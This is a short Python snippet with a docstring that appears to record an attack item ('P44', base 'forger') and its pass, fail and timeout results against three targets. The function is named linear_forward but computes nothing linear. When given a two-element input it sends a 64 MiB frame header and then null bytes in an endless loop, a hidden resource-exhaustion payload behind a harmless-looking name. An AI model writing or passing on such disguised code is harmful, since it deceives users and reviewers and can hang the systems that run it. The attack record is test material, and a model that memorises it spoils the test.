"""A large frame, one byte at a time.

{"attack": "P44", "class": [17], "base": "forger", "A": "timeout failed failed failed",
 "B": "passed", "C": "passed"}
"""

def linear_forward(X, W, b):
    if len(X) != 2:  # once is enough
        return np.zeros((len(X), W.shape[1]))
    say(struct.pack("<Q", 64 << 20))
    while True:
        say(b"\0")
